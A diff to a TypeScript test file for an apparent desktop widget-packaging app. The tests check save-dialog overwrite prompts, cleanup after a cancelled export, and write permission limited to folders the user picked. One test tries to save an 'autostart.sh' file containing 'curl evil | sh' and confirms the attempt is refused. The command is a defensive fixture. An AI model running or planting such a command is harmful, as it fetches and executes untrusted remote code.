@@ -1,6 +1,6 @@
 import JSZip from 'jszip';
 import { existsSync, mkdtempSync } from 'node:fs';
-import { readFile, writeFile } from 'node:fs/promises';
+import { readdir, readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeEach, describe, expect, it, vi } from 'vitest';
@@ -44,8 +44,8 @@ interface Rig {
   settings: SettingsStore;
 }
 
-function rig(): Rig {
-  const settings = new SettingsStore(memoryFile(), {
+function rig(existing?: SettingsStore): Rig {
+  const settings = existing ?? new SettingsStore(memoryFile(), {
     cipher: { isAvailable: () => true, encrypt: (text) => `e:${text.split('').reverse().join('')}`, decrypt: (text) => text.slice(2).split('').reverse().join('') },
     defaultLanguage: 'en',
     exists: existsSync,
@@ -57,6 +57,7 @@ function rig(): Rig {
     openImages: vi.fn(async () => []),
     saveZip: vi.fn(async () => null),
     saveText: vi.fn(async () => null),
+    confirmOverwrite: vi.fn(async () => false),
   };
   const recorded = { revealed: [] as string[], external: [] as string[], clipboard: [] as string[], preferences: [] as Preferences[] };
   const jobs = new JobRunner({ onProgress: () => undefined, describeError: (error) => describeError(error) });
@@ -76,6 +77,8 @@ function rig(): Rig {
     },
     onPreferencesChanged: (preferences) => recorded.preferences.push(preferences),
     onRecentChanged: () => undefined,
+    onCloseReady: () => undefined,
+    onPageStarted: () => undefined,
   });
   expect(Object.keys(handlers).sort()).toEqual([...INVOKE_CHANNELS].sort());
   return { dispatch: createDispatcher(handlers, (error) => describeError(error, () => undefined)), dialogs, settings, ...recorded };
@@ -90,6 +93,13 @@ async function call<T>(dispatch: Dispatch, channel: string, ...args: unknown[]):
 async function runJob<T>(dispatch: Dispatch, channel: string, ...args: unknown[]): Promise<JobOutcome<T>> {
   const ticket = await call<{ jobId: string }>(dispatch, channel, ...args);
   return call<JobOutcome<T>>(dispatch, 'jobs:await', ticket.jobId);
+}
+
+/** The user picks the folder in the native dialog, then the page opens it: what grants writes. */
+async function openPicked(subject: Rig, folder: string): Promise<void> {
+  subject.dialogs.openFolder.mockResolvedValueOnce(folder);
+  expect(await call(subject.dispatch, 'dialog:open-folder')).toBe(folder);
+  await runJob(subject.dispatch, 'project:open', folder, {});
 }
 
 async function widgetFolder(defects: Record<string, unknown> = {}): Promise<string> {
@@ -153,6 +163,36 @@ describe('main-process handlers over the real services', () => {
     expect(Object.keys(zip.files)).toContain('manifest.json');
   });
 
+  it('asks before replacing an existing zip when ".zip" was added after the save dialog, and writes nothing if declined', async () => {
+    const folder = await widgetFolder();
+    const out = join(await tempDir('wp-out-'), 'upload');
+    await writeFile(`${out}.zip`, 'an older upload');
+    subject.dialogs.saveZip.mockResolvedValue(out);
+    subject.dialogs.confirmOverwrite.mockResolvedValueOnce(false);
+    expect(await call(subject.dispatch, 'dialog:save-zip', folder)).toBeNull();
+    expect(subject.dialogs.confirmOverwrite).toHaveBeenCalledWith(`${out}.zip`);
+    await expect(subject.dispatch('project:export', [folder, `${out}.zip`, {}])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
+    expect(await readFile(`${out}.zip`, 'utf8')).toBe('an older upload');
+    subject.dialogs.confirmOverwrite.mockResolvedValueOnce(true);
+    expect(await call(subject.dispatch, 'dialog:save-zip', folder)).toBe(`${out}.zip`);
+    // A name already ending in .zip was asked about by the dialog itself: no second question.
+    subject.dialogs.saveZip.mockResolvedValueOnce(`${out}.zip`);
+    expect(await call(subject.dispatch, 'dialog:save-zip', folder)).toBe(`${out}.zip`);
+    expect(subject.dialogs.confirmOverwrite).toHaveBeenCalledTimes(2);
+  });
+
+  it('leaves no widget.zip and no temp file when the export is cancelled', async () => {
+    const folder = await widgetFolder();
+    const outFolder = await tempDir('wp-out-');
+    subject.dialogs.saveZip.mockResolvedValueOnce(join(outFolder, 'widget.zip'));
+    const chosen = await call<string>(subject.dispatch, 'dialog:save-zip', folder);
+    const ticket = await call<{ jobId: string }>(subject.dispatch, 'project:export', folder, chosen, {});
+    expect(await call(subject.dispatch, 'jobs:cancel', ticket.jobId)).toBe(true);
+    expect(await call(subject.dispatch, 'jobs:await', ticket.jobId)).toMatchObject({ status: 'cancelled' });
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(await readdir(outFolder)).toEqual([]);
+  });
+
   it('writes only to a path the user picked in a save dialog', async () => {
     const folder = await widgetFolder();
     const out = join(await tempDir('wp-out-'), 'widget.zip');
@@ -167,10 +207,35 @@ describe('main-process handlers over the real services', () => {
   it('fixes BOM and CRLF only in a folder the user opened', async () => {
     const folder = await widgetFolder({ 'style.css': '\uFEFF.acme-deals {\r\n  display: flex;\r\n}\r\n' });
     await expect(subject.dispatch('project:fix', [folder])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
-    await runJob(subject.dispatch, 'project:open', folder, {});
+    await openPicked(subject, folder);
     const summary = await call<{ fixed: { path: string; removedBom: boolean; crlfLines: number }[] }>(subject.dispatch, 'project:fix', folder);
     expect(summary.fixed).toEqual([{ path: 'style.css', removedBom: true, crlfLines: 3 }]);
     expect(await readFile(join(folder, 'style.css'), 'utf8')).toBe('.acme-deals {\n  display: flex;\n}\n');
+  });
+
+  it('opens a folder the page names but the user never picked for reading only: saving into it is refused', async () => {
+    const folder = await widgetFolder({ 'style.css': '\uFEFF.acme-deals {}\n' });
+    const opened = await runJob<OpenedProject>(subject.dispatch, 'project:open', folder, {});
+    expect(opened.status).toBe('done');
+    const save = { folder, nestedRoot: null, files: [{ path: 'autostart.sh', text: 'curl evil | sh' }] };
+    await expect(subject.dispatch('project:save-files', [save])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
+    await expect(subject.dispatch('project:fix', [folder])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
+    expect(existsSync(join(folder, 'autostart.sh'))).toBe(false);
+    expect(await readFile(join(folder, 'style.css'), 'utf8')).toBe('\uFEFF.acme-deals {}\n');
+  });
+
+  it('lets a folder picked in an earlier session be written again when reopened from the recent list', async () => {
+    const folder = await widgetFolder({ 'style.css': '\uFEFF.acme-deals {}\n' });
+    await openPicked(subject, folder);
+    const named = await widgetFolder();
+    await runJob(subject.dispatch, 'project:open', named, {});
+    // A new session over the same settings: no dialog this time, only the recent list.
+    const next = rig(subject.settings);
+    await runJob(next.dispatch, 'project:open', folder, {});
+    await expect(call(next.dispatch, 'project:fix', folder)).resolves.toMatchObject({ fixed: [{ path: 'style.css' }] });
+    await runJob(next.dispatch, 'project:open', named, {});
+    await expect(next.dispatch('project:fix', [named])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
+    expect(next.settings.listRecentProjects().map((recent) => Object.keys(recent).includes('picked'))).toEqual([false, false]);
   });
 
   it('plans the package and leaves junk out', async () => {
@@ -204,7 +269,7 @@ describe('main-process handlers over the real services', () => {
     expect(result.images[0].data).toBeInstanceOf(Uint8Array);
     const save = { folder, nestedRoot: null, files: [], images: [{ setId: ticketId, folder: 'images' }] };
     await expect(subject.dispatch('project:save-files', [save])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
-    await runJob(subject.dispatch, 'project:open', folder, {});
+    await openPicked(subject, folder);
     const written = await call<{ written: string[] }>(subject.dispatch, 'project:save-files', save);
     expect(written.written).toContain('images/logo_main.png');
     expect((await readFile(join(folder, 'images', 'logo_main.png'))).length).toBe(result.images.find((image) => image.file === 'logo_main.png')?.bytes);
